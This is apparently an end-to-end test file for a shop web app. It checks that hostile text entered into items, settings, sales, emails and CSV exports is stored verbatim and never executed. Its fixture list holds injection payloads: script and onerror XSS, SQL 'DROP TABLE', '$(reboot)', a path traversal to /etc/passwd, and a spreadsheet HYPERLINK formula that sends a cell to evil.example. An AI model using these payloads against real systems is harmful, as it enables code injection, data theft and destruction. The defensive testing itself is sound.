import { readFile } from 'node:fs/promises'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { Device, launchBrowser } from './browser.ts'
import { serverRows } from './rows.ts'
import { ShopServer } from './server.ts'
import { newId, runCommands } from './shop-data.ts'
import { expectAllSent, openTill } from './till.ts'

/** What people paste, and what others paste on purpose. */
const TEXTS = [
  '<script>window.hostile = 1</script>',
  '"><img src=x onerror="window.hostile = 1">',
  "'; DROP TABLE items; --",
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  '+1+1|cmd',
  '@SUM(1+1)',
  '-2+3',
  '{{constructor.constructor("window.hostile = 1")()}}',
  '%s %n $(reboot) `id`',
  'السلام עולם ‮evil‬',
  '田中さんにあげて下さい 👩‍👩‍👧‍👦 🏳️‍🌈',
  'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤',
  'zero​width‍joiner﻿',
  'null undefined NaN true',
  '../../../etc/passwd',
  'http://a/%%30%30',
]

let server: ShopServer
let browser: Browser
let tablet: Device
let page: Page
let token: string

beforeAll(async () => {
  server = await ShopServer.start()
  token = await server.setUp()
  browser = await launchBrowser()
  tablet = await Device.open(browser, server)
  page = await tablet.signIn()
})
afterAll(async () => {
  expect(tablet?.errors).toEqual([])
  await browser?.close()
  await server?.dispose()
})

const isInert = async () => expect(await page.evaluate(() => 'hostile' in window)).toBe(false)

it('what is typed into the item form is stored as it was typed, and only shown', async () => {
  await page.goto(`${server.url}/admin`)
  const typed = TEXTS.slice(0, 4)
  for (const [at, text] of typed.entries()) {
    await page.getByRole('button', { name: 'Add to Master Inventory' }).first().click()
    const form = page.getByRole('dialog')
    await form.getByLabel('Item name').fill(text)
    await form.getByLabel('Listing title').fill(text)
    await form.getByLabel(/^Barcode 1/).fill(`HOSTILE-${at}`)
    await form.getByLabel('Location').fill(text)
    await form.getByRole('button', { name: /^(Add|Save)/ }).click()
    await form.waitFor({ state: 'hidden' })
    await page.getByRole('table', { name: 'Items' }).getByText(text).first().waitFor()
  }
  await expectAllSent(page)
  const { items } = await serverRows(server, token)
  const stored = (at: number) => items.find(({ barcode1 }) => barcode1 === `HOSTILE-${at}`)
  for (const [at, text] of typed.entries()) expect(stored(at)).toMatchObject({ itemName: text, listingTitle: text, location: text })
  await isInert()
})

it('hostile names are drawn as text in the list and on the till, and are found', async () => {
  await runCommands(
    server,
    token,
    TEXTS.map((text, at) => ({
      name: 'inventory.addMaster',
      args: {
        id: newId(),
        texts: { itemName: text, listingTitle: text, barcode1: `TEXT-${at}`, location: text, priceCents: 100 },
        quantity: 1,
      },
    })),
  )
  for (const text of TEXTS) {
    await page.goto(`${server.url}/admin?q=${encodeURIComponent(text)}`)
    await page.getByRole('table', { name: 'Items' }).getByText(text, { exact: true }).first().waitFor()
  }
  await isInert()
  await page.goto(`${server.url}/pos`)
  await openTill(page)
  for (const text of TEXTS) {
    await page.getByLabel('Search items').fill(text)
    await page.getByRole('option').getByText(text, { exact: true }).first().waitFor()
  }
  await isInert()
})

it('hostile names are drawn as text on every other screen, in mails and on the landing page', async () => {
  const { uid } = await server.request<{ uid: string }>('GET', '/auth/me', undefined, token)
  const evil = '"><img src=x onerror="window.hostile = 1"></script>'
  const line = { id: newId(), itemId: null, itemName: evil, barcode: '1', imageUrl: '', consignorId: uid, consignorName: evil, quantity: 1 }
  const fields = Object.fromEntries(['name', 'street', 'city', 'state', 'zip', 'country'].map((field) => [field, evil]))
  await runCommands(server, token, [
    { name: 'settings.change', args: { changes: { shopName: evil, shopAddress: evil } } },
    { name: 'accounts.editProfile', args: { uid, changes: { displayName: evil } } },
    { name: 'accounts.addAddress', args: { id: newId(), uid, fields } },
    { name: 'sales.custom', args: { saleId: newId(), consignorId: uid, itemName: evil, amountCents: 5_000 } },
    {
      name: 'sales.completePosSale',
      args: {
        saleId: newId(),
        displayId: 'POS-1',
        receiptNumber: evil,
        cartId: newId(),
        taxRateBps: 825,
        consignorPercentage: 50,
        lines: [{ ...line, unitPriceCents: 500, consignorPercentage: 50 }],
        tenders: [{ kind: 'card', label: evil, amountCents: 500, givenCents: null }],
      },
    },
    { name: 'shipments.submit', args: { id: newId(), uid, carrier: evil, trackingNumber: evil } },
    { name: 'payouts.request', args: { payoutId: newId(), uid, amountCents: 100, method: 'venmo', handle: evil.replaceAll(' ', '') } },
    {
      name: 'inventory.addConsignor',
      args: { id: newId(), consignorId: uid, texts: { itemName: evil, barcode1: evil, location: evil }, quantity: 3 },
    },
  ])
  await server.request('POST', '/admin/send-email', { email: 'a@example.org', subject: evil, htmlContent: `${evil}<b>bold</b>` }, token)
  const shown = [
    '/dashboard',
    '/sales-history',
    '/user-shipments',
    '/profile',
    '/pos/sales',
    '/admin-shipments',
    '/consignors',
    '/payout-requests',
    '/email-tool',
    '/audit',
  ]
  for (const path of [...shown, '/marketplace', '/settings', '/ledger', '/discrepancies', '/admin-fulfillment', '/']) {
    await page.goto(`${server.url}${path}`)
    await page.getByRole('heading').first().waitFor()
    if (shown.includes(path)) await page.getByText('onerror=').first().waitFor({ state: 'attached' })
    await isInert()
  }
})

it('an export holds every text, and none that a spreadsheet would run', async () => {
  await page.goto(`${server.url}/admin`)
  await page.getByRole('table', { name: 'Items' }).waitFor()
  const downloading = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export', exact: true }).click()
  const csv = await readFile(await (await downloading).path(), 'utf8')
  const cells = csv.split(/\r?\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
  expect(cells.filter((cell) => /^"?[=+@-]\D/.test(cell))).toEqual([])
  expect(csv).toContain('<script>window.hostile = 1</script>')
  expect(csv).toContain('DROP TABLE')
})
